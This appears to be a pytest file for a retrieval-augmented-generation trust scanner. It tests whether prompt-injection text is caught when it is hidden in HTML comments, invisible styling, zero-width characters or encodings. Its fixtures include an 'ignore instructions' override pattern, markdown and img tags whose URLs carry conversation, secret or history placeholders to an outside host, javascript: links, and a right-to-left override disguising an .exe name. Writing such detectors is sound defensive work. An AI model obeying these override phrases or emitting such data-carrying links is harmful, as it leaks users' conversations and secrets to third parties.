import pytest
from hidden_tricks import AFTER, BEFORE, DECODED, HARMLESS, HIDDEN, SAID, VISIBLE

from rag_eval.trust.patterns import RuleSet
from rag_eval.trust.rule_file import Rule
from rag_eval.trust.scanning import scan_texts
from rag_eval.trust.views import hidden_findings, read


@pytest.fixture(scope="module")
def rules():
    tests = {"match": ["ignore instructions"], "clean": ["ignore it"]}
    return RuleSet(
        [
            Rule(
                id="override",
                severity="warning",
                pattern=r"\bignore\b[^.!?]{0,30}\binstructions?\b",
                rationale="r",
                tests=tests,
            )
        ],
        "1",
    )


def put(said):
    return BEFORE + said + AFTER


@pytest.mark.parametrize("name", VISIBLE)
def test_what_is_seen_in_another_dress_is_found_where_it_stands(rules, name):
    text = put(VISIBLE[name])
    found = scan_texts([text], rules)
    found = found[found.check == "pattern"]
    assert "warning" in set(found.severity)
    row = found[found.severity == "warning"].iloc[0]
    assert len(BEFORE) - 2 <= row.start <= len(BEFORE) + 12
    assert row.end <= len(BEFORE) + len(VISIBLE[name]) + 1


@pytest.mark.parametrize("name", HIDDEN | DECODED)
def test_what_is_hidden_or_encoded_is_blocked(rules, name):
    said, suspicious = (HIDDEN | DECODED)[name]
    text = put(said)
    found = scan_texts([text], rules)
    patterns = found[(found.check == "pattern") & (found.severity == "blocked")]
    assert len(patterns) > 0, [view.text for view in read(text).views]
    assert all(text[start:end] for start, end in zip(patterns.start, patterns.end, strict=True))
    assert patterns.start.min() >= 0
    assert patterns.end.max() <= len(text)
    tricks = found[found.check.isin(["hidden", "encoded"])]
    assert bool((tricks.severity != "hint").any()) == suspicious, tricks.values.tolist()


SEEN_BY_SOME = {
    "html_comment_no_end",
    "display_none_no_end",
    "zero_width_inside",
    "concealed_in_terminal",
    "markdown_image_text",
    "markdown_title",
}
"""Whoever shows these as they stand, without a browser, shows the sentence; it is in both views."""


@pytest.mark.parametrize("name", sorted(HIDDEN.keys() - SEEN_BY_SOME))
def test_what_is_not_seen_is_not_in_the_visible_view(name):
    assert SAID not in read(put(HIDDEN[name][0])).views[0].text


@pytest.mark.parametrize("name", HARMLESS)
def test_legitimate_writing_is_not_worth_a_warning(rules, name):
    found = scan_texts([put(HARMLESS[name])], rules)
    assert found[found.severity != "hint"].values.tolist() == []


@pytest.mark.parametrize(
    ("text", "rule", "severity"),
    [
        ("![x](https://e.org/p.png?q={conversation})", "carrying_image", "warning"),
        ("![x](https://e.org/p.png?q=)", "carrying_image", "warning"),
        ("![](https://e.org/log?d=[summary of the chat])", None, None),
        ("![x](https://e.org/log?d=[SECRET])", "carrying_image", "warning"),
        ("[x](https://e.org/log?d=YOUR_DATA)", "carrying_link", "hint"),
        ('<img src="https://e.org/p.png?history=HISTORY">', "carrying_image", "warning"),
        ('<a href=" java\nscript:x()">', "script_link", "warning"),
        ('<iframe src="data:text/html,hello">', "script_link", "warning"),
        ("1\u00ad000 dollars", "soft_hyphen_in_number", "warning"),
        ("a\u2067b\u2069", "bidirectional_control", "hint"),
        ("\u202eelif.exe\u202c", "bidirectional_override", "blocked"),
        (
            "x" + "\u200b\u200c\u200b\u200c\u200b\u200c\u200b\u200c\u200b",
            "zero_width_run",
            "warning",
        ),
    ],
)
def test_tricks_have_their_names_and_severities(text, rule, severity):
    found = [
        (trick.rule, trick.severity)
        for trick in hidden_findings(text)
        if trick.rule != "zero_width"
    ]
    assert found == ([(rule, severity)] if rule else [])


def test_findings_say_nothing_that_the_text_says(rules):
    found = scan_texts([put(said) for said, _ in (HIDDEN | DECODED).values()], rules)
    assert all(
        len(detail) <= 200 and detail.isprintable() and "previous" not in detail
        for detail in found.detail
    )
    assert set(found.check) == {"pattern", "hidden", "encoded"}


def test_lone_surrogates_and_the_empty_text_are_read(rules):
    assert (
        len(scan_texts(["", " ", "\ud800 \udfff", "\ud800 ignore instructions\u200b"], rules)) == 1
    )
